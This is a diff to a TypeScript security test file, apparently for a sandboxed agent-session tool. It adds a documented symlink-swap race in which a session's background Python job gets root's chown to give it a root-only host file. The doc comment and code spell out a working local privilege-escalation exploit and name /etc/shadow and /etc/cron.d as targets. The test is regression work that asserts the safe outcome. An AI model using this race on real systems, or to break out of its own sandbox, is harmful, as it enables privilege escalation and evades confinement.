@@ -3,7 +3,7 @@
  * split git dirs and quarantine; display.ts's rule for a number after a right-to-left letter), on
  * the code of 2459236, as root (the worker's intended setting), and on git-guard.ts's reading of the
  * person's config. Each test asserts the safe behaviour; OPEN skips them while a fix is missing.
- * Run un-skipped once against 2459236: all 10 failed (audit: 3, guard: 3, display: 4).
+ * Run un-skipped against 2459236: all 11 failed (audit: 3, guard: 3, display: 4, root's chown: 1).
  *
  * Kind 6 (the person's git, on the host, obeys what the session wrote), three ways past the audit,
  * each observed in a real sandboxed session (the unit harness's, session uid agent-jobs, in a
@@ -52,6 +52,28 @@
  *   the file's folder), keep a `.git` file only when that path, resolved, is an admin folder whose
  *   common dir, read the same way, is the repository's; or keep no `.git` file the session made at
  *   all; and treat a git dir anywhere under `.git` but the known ones as one in the working tree.
+ *
+ * Kind 6/7 (the worker, as root, acts on a path the session can swap; the worst of this round):
+ * `Quarantine.rewritePackedRefs` drops a new packed replace ref by writing
+ * `.git/packed-refs.<tag>.tmp` (`O_EXCL`, safe) and then `fs.chownSync(tmp, st.uid, st.gid)` BY
+ * NAME, which follows a symlink, with `st` the owner of `packed-refs`. `.git` is the session's to
+ * write, and the audit after a command runs while the command's background jobs live. Steps: a job
+ * (python3) makes a symlink `.git/l` to a root-only host file (here `<ws>-victim`, 0600, outside the
+ * workspace and the sandbox's view) and polls `.git` for `packed-refs.*.tmp`; the next command
+ * writes a new `.git/packed-refs` (so the session's own file, uid agent-jobs) of 48 MB with one
+ * `refs/replace/` line; the audit after it writes the temporary file (tens of ms), the job
+ * `os.replace`s the symlink over its name, and root's chown follows it. Observed: the host file is
+ * owned by agent-jobs (uid 999) after the command, in 3 of 4 single tries and in every run of the
+ * test (up to 4 tries). With `/etc/shadow` (visible, read-only, in the shell's sandbox, root:shadow
+ * 0640) as the target the session could then read it; `/etc/cron.d` or `/usr/local/bin` given to
+ * the workspace's owner (the session uid when the owner is not root) would let any program of the
+ * owner's on the host write what root runs (inferred, not run). Fix (whole kind): no path-based
+ * call of the worker's on anything in the workspace: `fchown`/`fchmod` on the descriptor opened
+ * with `O_EXCL` (or `O_TMPFILE` and `linkat`), `renameat` relative to a directory descriptor, or
+ * the rewrite done as the file's owner or confined as `src/checkpoint/confine.ts` confines root's
+ * git; and a search of every root `chownSync`/`mkdirSync`/`writeFileSync` by path that a session
+ * can reach (git-guard.ts `makeEmpty` and the `core.hooksPath` folder, made by path at start, are
+ * the same shape: read, not tried, they run with no process of the session alive but a sibling's).
  *
  * Kind 6, the guard's reading of the person's config (git-guard.ts `PROGRAM_KEYS`, round 13's fix):
  * a program the person's repository config names in the workspace is bound read-only only when its
@@ -113,7 +135,7 @@ import { spawnSync } from 'node:child_process';
 import * as fs from 'node:fs';
 import * as path from 'node:path';
 import { commandDetails, commandSummary, displayCommand } from '../../../src/shared/display';
-import { closeSessions, removeTempDirs, startSession } from '../session/helpers';
+import { closeSessions, removeTempDirs, startSession, waitUntil } from '../session/helpers';
 import { personsRepo, plant } from './persons-repo';
 
 /** Every attack below works on 2459236 (see the doc comment): skipped until fixed. */
@@ -303,4 +325,60 @@ describe('kind 5: a right-to-left letter before a number, a bidi-neutral modifie
       expect(flaggedEverywhere(command)).toEqual(FLAGGED);
     });
   }
+});
+
+/** Python: waits for the audit's `.git/packed-refs.<tag>.tmp` and replaces it, in one rename, by a symlink to `victim`. */
+const SWAP_TMP = (victim: string): string => `import os, time
+os.symlink(${JSON.stringify(victim)}, '.git/l')
+end = time.time() + 60
+while time.time() < end:
+    for n in os.listdir('.git'):
+        if n.startswith('packed-refs.') and n.endswith('.tmp'):
+            os.replace('.git/l', '.git/' + n)
+            print('swapped', n, flush=True)
+            raise SystemExit
+print('none', flush=True)
+`;
+
+/** Python: writes `.git/packed-refs` anew (the session's file) at about 48 MB, so that the audit's rewrite takes a while, with one new replace ref (argv[1]). */
+const BIG_PACKED_REFS = `import sys
+h = '1' * 40
+with open('.git/packed-refs', 'w') as f:
+    f.write('# pack-refs with: peeled fully-peeled sorted \\n')
+    f.write(h + ' refs/replace/' + sys.argv[1] * 40 + '\\n')
+    for i in range(800000):
+        f.write(h + ' refs/tags/t%07d\\n' % i)
+print('packed')
+`;
+
+dRoot('kind 6/7: root, on the host, chowns through a symlink the session puts in the workspace', () => {
+  t(
+    'a job swapping the packed-refs the audit rewrites for a symlink does not get a root-only host file chowned to the session',
+    async () => {
+      const { ws } = personsRepo();
+      // A root-only file on the host, outside the workspace (and outside the sandbox's view).
+      const victim = `${ws}-victim`;
+      fs.writeFileSync(victim, 'root only\n', { mode: 0o600 });
+      fs.writeFileSync(path.join(ws, 'swap.py'), SWAP_TMP(victim));
+      fs.writeFileSync(path.join(ws, 'big.py'), BIG_PACKED_REFS);
+      try {
+        const s = await startSession({ cwd: ws, workspace: ws, timeoutMs: 120_000 });
+        // A race (won 3 times in 4 single tries): up to 4 tries, each with a new replace ref for the audit to drop.
+        const swapped: string[] = [];
+        for (const digit of ['2', '3', '4', '5']) {
+          await s.run(`rm -f .git/l swap.txt; python3 swap.py > swap.txt 2>&1 &`);
+          const r = await s.run(`python3 big.py ${digit}`);
+          expect(r.output).toContain('refs/replace/');
+          const out = path.join(ws, 'swap.txt');
+          await waitUntil('the job swapped', () => fs.existsSync(out) && fs.readFileSync(out, 'utf8').includes('\n'), 70_000);
+          swapped.push(fs.readFileSync(out, 'utf8').split(' ')[0]!);
+          if (fs.statSync(victim).uid !== 0) break;
+        }
+        expect({ swapped: swapped[0], victimOwner: fs.statSync(victim).uid }).toEqual({ swapped: 'swapped', victimOwner: 0 });
+      } finally {
+        fs.rmSync(victim, { force: true });
+      }
+    },
+    300_000,
+  );
 });
